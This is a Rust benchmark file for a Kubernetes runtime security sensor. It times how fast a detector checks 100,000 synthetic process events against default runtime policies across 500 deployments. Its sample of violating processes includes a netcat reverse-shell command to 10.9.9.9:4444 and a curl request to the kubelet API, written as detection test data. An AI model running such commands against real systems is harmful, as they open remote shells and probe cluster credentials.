//! Runtime detection in the Sensor: processes evaluated per second, on one thread, against every
//! enabled default RUNTIME process policy (21 policies), in 500 deployments of an index that
//! holds them (with their pods, a Service and a NetworkPolicy, so each lookup derives the
//! deployment's cluster context as the Sensor does).
//!
//! Events: 100,000 processes — 90 % ordinary programs (java, python, nginx, sleep) with varied
//! arguments, 10 % that violate a policy (a shell under java, apt-get, curl at the kubelet,
//! netcat), each repeated a few times as real workloads do.
//!
//! Measures: the detector alone (the deployment at hand) and the Sensor's whole path per event
//! (index lookup of the deployment, then detection). Target: ≥ 100,000 events/s on one core.
//!
//! Run: `cargo bench -p rampart-sensor --bench runtime_detection`

use std::time::Instant;

use rampart_proto::v1::ProcessIndicator;
use rampart_sensor::index::{Index, Kind};
use rampart_sensor::runtime::{Detector, compile_process_policies};
use serde_json::json;

#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

const DEPLOYMENTS: usize = 500;
const EVENTS: usize = 100_000;

fn main() {
    let policies = compile_process_policies(&rampart_policy::defaults::default_policies());
    let mut index = Index::new();
    for i in 0..DEPLOYMENTS {
        let name = format!("app-{i}");
        index.apply(
            Kind::Deployment,
            json!({"apiVersion": "apps/v1", "kind": "Deployment",
                "metadata": {"name": name, "namespace": format!("team-{}", i % 20), "uid": format!("uid-{i}"),
                    "labels": {"app": name}},
                "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}}, "template": {
                    "metadata": {"labels": {"app": name}},
                    "spec": {"containers": [{"name": "app", "image": format!("registry.example.com/app:{}", i % 7),
                        "securityContext": {"privileged": i % 10 == 0},
                        "ports": [{"containerPort": 8080}]}]}}}}),
        );
        index.apply(
            Kind::Service,
            json!({"apiVersion": "v1", "kind": "Service",
                "metadata": {"name": name, "namespace": format!("team-{}", i % 20), "uid": format!("svc-{i}")},
                "spec": {"selector": {"app": name}, "ports": [{"port": 80, "targetPort": 8080}]}}),
        );
    }
    for ns in 0..20 {
        index.apply(
            Kind::NetworkPolicy,
            json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                "metadata": {"name": "default-deny", "namespace": format!("team-{ns}"), "uid": format!("np-{ns}")},
                "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}}),
        );
    }
    let ordinary = [
        (
            "/opt/java/bin/java",
            "-Xmx512m -jar app.jar",
            "/usr/bin/tini",
        ),
        (
            "/usr/bin/python3",
            "worker.py --queue jobs",
            "/usr/bin/tini",
        ),
        ("/usr/sbin/nginx", "-g daemon off;", "/usr/bin/tini"),
        ("/usr/bin/sleep", "30", "/usr/bin/bash"),
    ];
    let violating = [
        ("/bin/sh", "-c id", "/opt/java/bin/java"),
        ("/usr/bin/apt-get", "install -y curl", "/usr/bin/bash"),
        (
            "/usr/bin/curl",
            "-k https://10.0.0.5:10250/pods",
            "/usr/bin/bash",
        ),
        ("/usr/bin/nc", "-e /bin/sh 10.9.9.9 4444", "/usr/bin/bash"),
    ];
    let events: Vec<ProcessIndicator> = (0..EVENTS)
        .map(|i| {
            let (path, args, parent) = if i % 10 == 0 {
                violating[(i / 10) % violating.len()]
            } else {
                ordinary[i % ordinary.len()]
            };
            ProcessIndicator {
                deployment_id: format!("uid-{}", i % DEPLOYMENTS),
                pod_id: format!("app-{}-{}", i % DEPLOYMENTS, i % 2),
                container_name: "app".into(),
                container_id: "c".into(),
                exec_file_path: path.into(),
                name: path.rsplit('/').next().unwrap_or(path).into(),
                // A few repeats of each: real workloads run the same things over and over.
                args: format!("{args} {}", i % 97),
                pid: i as u32,
                uid: if i % 3 == 0 { 0 } else { 1000 },
                gid: 0,
                lineage: vec![parent.into(), "/usr/bin/containerd-shim".into()],
                time_unix_ms: i as i64,
            }
        })
        .collect();
    let outgoing: Vec<_> = (0..DEPLOYMENTS)
        .map(|i| index.outgoing(&format!("uid-{i}")).expect("deployment"))
        .collect();

    println!("{} runtime process policies", policies.len());
    // Detector alone, warm cache (each deployment normalized once).
    let mut detector = Detector::default();
    let mut alerts = 0usize;
    for round in 0..2 {
        let t = Instant::now();
        for (i, e) in events.iter().enumerate() {
            let d = detector.on_process(&policies, &outgoing[i % DEPLOYMENTS], e, "prod", "r");
            alerts += d.results.map_or(0, |r| r.alerts.len());
        }
        let s = t.elapsed().as_secs_f64();
        println!(
            "detector, round {}: {EVENTS} events in {:.0} ms: {:.0} events/s ({:.2} µs each)",
            round + 1,
            s * 1000.0,
            EVENTS as f64 / s,
            s * 1e6 / EVENTS as f64
        );
    }
    println!(
        "violations: {} evaluated, {} violated, {alerts} alerts sent (repeats deduplicated)",
        detector.evaluated, detector.violations
    );
    // The Sensor's whole path per event: find the deployment in the index, then detect.
    let mut detector = Detector::default();
    let t = Instant::now();
    for e in &events {
        let Some(o) = index.outgoing(&e.deployment_id) else {
            continue;
        };
        let _ = detector.on_process(&policies, &o, e, "prod", "r");
    }
    let s = t.elapsed().as_secs_f64();
    println!(
        "index lookup + detector: {EVENTS} events in {:.0} ms: {:.0} events/s ({:.2} µs each)",
        s * 1000.0,
        EVENTS as f64 / s,
        s * 1e6 / EVENTS as f64
    );
}
